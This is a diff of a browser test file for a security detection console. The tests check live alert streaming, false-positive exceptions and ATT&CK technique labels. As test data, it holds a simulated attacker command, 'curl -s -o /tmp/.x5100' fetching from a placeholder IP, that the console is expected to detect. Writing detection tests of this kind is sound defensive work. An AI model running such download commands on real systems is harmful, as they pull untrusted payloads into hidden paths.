@@ -114,25 +114,59 @@ describe('web console', { skip: !hasChromium, timeout: 90_000 }, () => {
     expect(await page.evaluate("sessionStorage.getItem('xdr.token')")).toBe(c.adminToken);
   });
 
-  it('Workbench: alerts by score, and a new alert appears without a reload', async () => {
+  it('Workbench: alerts by score, and a new alert is pushed without a reload (polling off)', async () => {
     const { page } = admin;
+    // no polling at all: the new alert can only arrive through GET /alerts/stream
+    await page.evaluate("sessionStorage.setItem('xdr.workbench.poll', 'off')");
+    let listReads = 0;
+    page.on('request', (r) => { if (/\/api\/v1\/alerts\?/.test(r.url())) listReads++; });
     await page.goto(c.apiUrl);
+    await poll(() => page.getByTestId('live').getAttribute('data-state')).toBe('live');
     const rows = page.locator('[data-testid=alerts] tbody tr');
     await poll(() => rows.count()).toBeGreaterThanOrEqual(1);
     expect(await rows.first().textContent()).toContain('web7');
     // a marker in the page's memory survives only if the page is not reloaded
     await page.evaluate('window.marker = 42');
     const before = await rows.count();
+    // nothing changes, nothing is read: the page does not poll while the stream is live
+    const reads = listReads;
+    await page.waitForTimeout(4_500);
+    expect(listReads).toBe(reads);
     const db3 = await rawHost('db3');
     await attack(db3, 1, 5100, '198.51.100.77');
     await poll(() => page.locator('[data-testid=alerts]').textContent(), { timeout: 30_000 }).toContain('db3');
     expect(await rows.count()).toBeGreaterThan(before);
     expect(await page.evaluate('window.marker')).toBe(42);
+    expect(listReads).toBeGreaterThan(reads); // the push made the page read the list again
+    await page.evaluate("sessionStorage.removeItem('xdr.workbench.poll')");
     // highest score first
     const scores = await page.locator('[data-testid=alerts] tbody tr .score').allTextContents();
     expect(scores.map(Number)).toEqual([...scores.map(Number)].sort((a, b) => b - a));
     expect(await fitsWidth(page)).toBe(true);
     await shot(page, '02-workbench');
+  });
+
+  it('Workbench: when the stream fails it says so, polls, and reconnects', async () => {
+    const tab = await openTab(browser);
+    try {
+      await signIn(tab, c, c.adminToken!);
+      const { page } = tab;
+      await page.route('**/api/v1/alerts/stream', (r) => r.abort());
+      await page.reload();
+      const live = page.getByTestId('live');
+      await poll(() => live.getAttribute('data-state')).toBe('paused');
+      expect(await live.textContent()).toContain('Live updates paused — reconnecting');
+      // polling keeps the list current meanwhile
+      let listReads = 0;
+      page.on('request', (r) => { if (/\/api\/v1\/alerts\?/.test(r.url())) listReads++; });
+      await poll(() => listReads, { timeout: 10_000 }).toBeGreaterThanOrEqual(1);
+      await shot(page, '02-workbench-stream-paused');
+      await page.unroute('**/api/v1/alerts/stream');
+      await poll(() => live.getAttribute('data-state'), { timeout: 40_000 }).toBe('live');
+      expect(tab.problems).toEqual([]);
+    } finally {
+      await tab.context.close();
+    }
   });
 
   it('Workbench: filters and bulk status change', async () => {
@@ -184,6 +218,36 @@ describe('web console', { skip: !hasChromium, timeout: 90_000 }, () => {
     expect(await page.getByTestId('results').textContent()).toContain('curl -s -o /tmp/.x4100');
   });
 
+  it('Alert page: closing as false positive creates a scoped exception in the same step', async () => {
+    const { page } = admin;
+    const [a] = (await api(c, '/api/v1/alerts?host=host-db3')).body.alerts;
+    await page.goto(new URL(`/alerts/${a.id}`, c.apiUrl).href);
+    const triage = page.getByTestId('triage');
+    await triage.waitFor();
+    await triage.locator('select.select-small').selectOption('false_positive');
+    const form = page.getByTestId('fp-exception');
+    await form.waitFor();
+    // prefilled from the alert: one of its filters, the command line seen in its events, its host
+    await form.getByTestId('fp-rule').selectOption('g-download-tmp');
+    const cmd = form.locator('[data-field="process.command_line"] textarea');
+    await poll(() => cmd.inputValue()).toContain('curl -s -o /tmp/.x5100 http://198.51.100.77/x');
+    expect(await form.locator('[data-field="process.command_line"] input[type=checkbox]').isChecked()).toBe(true);
+    expect(await form.locator('.fp-hosts label', { hasText: 'db3' }).locator('input').isChecked()).toBe(true);
+    await shot(page, '03-alert-false-positive-form');
+    await page.getByTestId('close-with-exception').click();
+    const created = page.getByTestId('fp-created');
+    await created.waitFor();
+    const exceptionId = await created.getAttribute('data-exception-id');
+    const ex = (await api(c, `/api/v1/exceptions/${exceptionId}`)).body;
+    expect(ex).toMatchObject({ rule_id: 'g-download-tmp', hosts: ['host-db3'], enabled: true });
+    expect(ex.conditions).toContainEqual({ field: 'process.command_line', op: 'equals', values: ['curl -s -o /tmp/.x5100 http://198.51.100.77/x'] });
+    expect(ex.comment).toContain(a.id);
+    expect((await api(c, `/api/v1/alerts/${a.id}`)).body).toMatchObject({ status: 'closed', resolution: 'false_positive' });
+    await shot(page, '03-alert-false-positive-created');
+    await created.getByRole('link', { name: /Detections/ }).click();
+    await poll(() => page.getByTestId('exceptions').textContent()).toContain('curl -s -o /tmp/.x5100');
+  });
+
   it('Search: histogram, field sidebar top values add a term, syntax error at its column, saved queries', async () => {
     const { page } = admin;
     await page.goto(new URL('/search?q=&range=24h', c.apiUrl).href);
@@ -233,12 +297,17 @@ describe('web console', { skip: !hasChromium, timeout: 90_000 }, () => {
     await page.goto(new URL('/oat', c.apiUrl).href);
     const matrix = page.getByTestId('matrix');
     await matrix.waitFor();
+    // ATT&CK names from collector/content/attack-techniques.json
+    await poll(() => matrix.locator('[data-technique=T1105]').textContent()).toContain('Ingress Tool Transfer');
+    expect(await matrix.locator('[data-technique="T1222.002"]').textContent()).toContain('Linux and Mac File and Directory Permissions Modification');
     await matrix.locator('.matrix-cell').first().click();
     await poll(() => page.locator('[data-testid=drill] tbody tr').count()).toBeGreaterThanOrEqual(1);
     expect(await fitsWidth(page)).toBe(true);
     await shot(page, '06-oat-matrix');
     await page.getByRole('button', { name: 'List' }).click();
     await page.getByTestId('oat-list').waitFor();
+    // the list shows the technique picked in the matrix, by name
+    expect(await page.locator('[data-testid=oat-list] .technique-name').count()).toBeGreaterThan(0);
     await shot(page, '06-oat-list');
   });
 
